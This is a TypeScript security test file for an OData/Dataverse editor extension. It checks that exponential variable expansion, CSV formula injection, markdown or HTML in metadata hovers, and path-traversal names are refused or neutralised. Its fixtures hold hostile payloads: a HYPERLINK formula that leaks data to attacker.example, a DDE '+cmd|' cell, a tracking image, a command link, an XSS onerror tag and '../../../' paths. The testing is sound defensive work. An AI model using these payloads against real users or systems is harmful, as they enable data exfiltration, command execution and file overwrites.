/**
 * Issue 12, items 6 and 9: what a cloned repository's files or a service's answers can make the extension do with
 * files, exports and hovers — exponential `{{variables}}`, formula cells in CSV exports, markdown in metadata
 * descriptions, names that become paths outside the target folder.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { checkDocument, createModelIndex, createODataDocument, getLanguageService, readCsdl, VARIABLE_LIMITS } from '../../server/src/odata/index';
import { sendRequest } from '../../client/src/features/runner/http/engine';
import { prepareRequest } from '../../client/src/features/runner/http/prepare';
import { ResultsSession } from '../../client/src/features/runner/panel/resultsSession';
import { planCustomApiFolder } from '../../client/src/features/scaffolding/customApiFolder';
import { newCustomApi } from '../../client/src/features/scaffolding/customApiModel';
import { pathSegmentProblem, resolveAllInside, resolveInside } from '../../client/src/features/scaffolding/safePaths';
import { readCustomApiFolder, writeCustomApiFiles, type GeneratedFile } from '../../client/src/features/scaffolding/solutionXml';
import type { RunnerEnvironment } from '../../client/src/features/runner/types';
import { startAttackerServer, type AttackerServer } from './attackerServer';

let attacker: AttackerServer;
let environment: RunnerEnvironment;
before(async () => {
  attacker = await startAttackerServer(() => ({
    json: {
      value: [
        { name: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', note: '+cmd|\' /C calc\'!A0', mail: '@SUM(1+1)', tab: '\t=1+1', cr: '\r=1+1', debt: -5, text: '-not a number' },
      ],
    },
  }));
  environment = { name: 'generic', flavor: 'generic', serviceRoot: `${attacker.url}/` };
});
after(() => attacker.stop());

/** A file of about 510 bytes whose variables each use the previous one twice: 2^n characters if expanded naively. */
function exponentialFile(): { text: string; last: string } {
  const lines = ['@v0 = xxxxxxxx'];
  let n = 0;
  while (lines.join('\n').length < 470) {
    n += 1;
    lines.push(`@v${n} = {{v${n - 1}}}{{v${n - 1}}}`);
  }
  lines.push(`GET things?$filter=name eq '{{v${n}}}'`);
  return { text: `${lines.join('\n')}\n`, last: `v${n}` };
}

const sampleModel = createModelIndex(readCsdl(readFileSync(join(__dirname, '..', 'fixtures', 'metadata', 'dataverse-sample.xml'), 'utf8')));

describe('security: files, exports and hovers', () => {
  test('exponential {{variables}}: a 510-byte file is a diagnostic on its definitions and a refusal in the runner, nothing sent', async () => {
    // The attack: definitions that use each other twice expand exponentially (12.7 s and 262 MB for 510 bytes) in the language server on open and in the extension host on send.
    const { text, last } = exponentialFile();
    assert.ok(text.length >= 470 && text.length <= 560, `${text.length} bytes`);
    const diagnostics = checkDocument(text, sampleModel, { flavor: 'dataverse' });
    const onDefinitions = diagnostics.filter((d) => d.code === 'request.variable-too-large').map((d) => text.slice(d.span.start, d.span.end));
    assert.ok(onDefinitions.includes(last), `the last definition is marked: ${onDefinitions.join(', ')}`);
    assert.ok(diagnostics.some((d) => d.code === 'request.variable-too-large' && text.slice(d.span.start, d.span.end) === `{{${last}}}`), 'and its use');
    const prepared = prepareRequest(text, 0, environment);
    assert.equal(prepared.ok, false);
    assert.match(prepared.ok ? '' : prepared.failure.message, /expands past the size limit/);
    assert.equal(attacker.received.length, 0);
    // A cycle through the environment's own variables is refused too.
    const cycle = prepareRequest('GET things?x={{a}}', 0, environment, { variables: { a: '{{b}}', b: '{{a}}' } });
    assert.match(cycle.ok ? '' : cycle.failure.message, /refer/);
    // A long chain is bounded by depth.
    const chain = Array.from({ length: VARIABLE_LIMITS.maxDepth + 5 }, (_, i) => `@c${i} = ${i === 0 ? 'end' : `{{c${i - 1}}}`}`).join('\n');
    const deep = prepareRequest(`${chain}\nGET things?x={{c${VARIABLE_LIMITS.maxDepth + 4}}}`, 0, environment);
    assert.match(deep.ok ? '' : deep.failure.message, /levels deep/);
  });

  test('CSV export: formula cells from a service are neutralised (and can be turned off)', async () => {
    // The attack: a service (or a record someone else wrote) returns `=HYPERLINK(…)`, and the exported CSV runs it when opened in a spreadsheet.
    const request = prepareRequest('GET things', 0, environment);
    assert.ok(request.ok);
    const outcome = await sendRequest(request.request, { token: async () => undefined });
    assert.ok(outcome.ok);
    const session = new ResultsSession(() => undefined);
    session.pageIsReady();
    session.load({ request: request.request, outcome }, { nextPage: async () => ({ failure: 'x' }), loadAll: async () => ({ stoppedBecause: 'end' }), curl: () => '' });
    const csv = session.exportText('csv');
    const cells = csv.split('\r\n')[1]!;
    assert.ok(cells.includes(`"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click"")"`), cells);
    assert.ok(cells.includes("'+cmd|"), cells);
    assert.ok(cells.includes("'@SUM(1+1)"), cells);
    assert.ok(cells.includes("'\t=1+1"), 'a leading tab');
    assert.ok(cells.includes("'\r=1+1"), 'a leading carriage return');
    assert.ok(cells.includes(',-5,'), 'numbers stay numbers');
    assert.ok(cells.includes("'-not a number"), cells);
    const raw = session.exportText('csv', { neutralizeFormulas: false });
    assert.ok(raw.includes('"=HYPERLINK('), 'the setting turns it off');
    attacker.received.length = 0;
  });

  test('hover: a metadata description is plain text (no links, command links, remote images or HTML)', () => {
    // The attack: a service's $metadata (or a forged file beside it) puts markdown in a description: a remote image that tracks the user, a command link.
    const description = '![pixel](https://attacker.example/track.png) [Run](command:workbench.action.terminal.sendSequence?%7B%7D) <img src=x onerror=alert(1)> visit www.attacker.example or https://attacker.example/x';
    const xml = `<?xml version="1.0" encoding="utf-8"?>
<edmx:Edmx Version="4.0" xmlns:edmx="http://docs.oasis-open.org/odata/ns/edmx">
  <edmx:DataServices>
    <Schema Namespace="Evil" xmlns="http://docs.oasis-open.org/odata/ns/edm">
      <EntityType Name="thing">
        <Key><PropertyRef Name="id"/></Key>
        <Property Name="id" Type="Edm.Int32" Nullable="false"/>
        <Property Name="name" Type="Edm.String">
          <Annotation Term="Org.OData.Core.V1.Description" String="${description.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;')}"/>
        </Property>
      </EntityType>
      <EntityContainer Name="C"><EntitySet Name="things" EntityType="Evil.thing"/></EntityContainer>
    </Schema>
  </edmx:DataServices>
</edmx:Edmx>`;
    const model = createModelIndex(readCsdl(xml));
    const text = 'GET things?$select=name';
    const hover = getLanguageService().hover(createODataDocument('file:///t.odata', text), text.indexOf('name') + 1, { model, flavor: 'generic' });
    assert.ok(hover, 'a hover');
    const markdown = (hover.contents as { value: string }).value;
    assert.ok(markdown.includes('attacker'), 'the description is shown');
    assert.ok(!/(^|[^\\])\]\(/.test(markdown), `no link or image syntax: ${markdown}`);
    assert.ok(!/(^|[^\\])</.test(markdown), 'no HTML');
    assert.ok(!/https?:\/\//.test(markdown) && !/www\.attacker/.test(markdown), 'no autolink');
  });

  test('scaffolding: names read from a cloned folder\'s XML cannot write outside the folder', () => {
    // The attack: a repository's customapirequestparameter.xml names its parameter `../../../escaped`, and regenerating the API writes there.
    const root = mkdtempSync(join(tmpdir(), 'trust-scaffold-'));
    try {
      const api = newCustomApi('contoso_Escape');
      api.displayname = 'Escape';
      api.description = 'Escape';
      api.requestParameters.push({ uniquename: 'Input', name: 'contoso_Escape.Input', displayname: 'Input', description: 'Input', type: 'String', isoptional: false });
      const folder = join(root, 'customapis', 'contoso_Escape');
      for (const file of writeCustomApiFiles(api)) {
        const hostile = file.content.replace(/uniquename="Input"/, 'uniquename="../../../escaped"');
        mkdirSync(join(folder, file.path, '..'), { recursive: true });
        writeFileSync(join(folder, file.path), hostile);
      }
      const current: GeneratedFile[] = listFiles(folder).map((path) => ({ path: relative(folder, path).replace(/\\/g, '/'), content: readFileSync(path, 'utf8') }));
      const previous = readCustomApiFolder(current);
      const plan = planCustomApiFolder(previous, current, {}, previous);
      const checked = resolveAllInside(folder, plan.files.map((file) => file.path));
      const written = plan.files.map((file) => file.path);
      assert.ok(written.includes('customapirequestparameters/../../../escaped/customapirequestparameter.xml'), 'the hostile name reached the plan');
      assert.equal(checked.ok, false, 'and is refused before anything is written');
      assert.match(checked.ok ? '' : checked.message, /Not written: the path 'customapirequestparameters\/\.\.\/\.\.\/\.\.\/escaped\/customapirequestparameter\.xml' has '\.\.'/);
      assert.equal(existsSync(join(root, 'escaped')), false);
      // Each kind of bad name is refused on its own.
      for (const bad of ['..', '.', 'a/b', 'a\\b', 'con', 'x:y', 'trailing.', '', 'nul.txt']) assert.ok(pathSegmentProblem(bad), bad);
      assert.equal(pathSegmentProblem('contoso_Escape'), undefined);
      assert.equal(resolveInside(folder, '../../escaped/x.xml').ok, false);
      assert.equal(resolveInside(folder, 'customapirequestparameters/Input/customapirequestparameter.xml').ok, true);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});

function listFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? listFiles(path) : [path];
  });
}
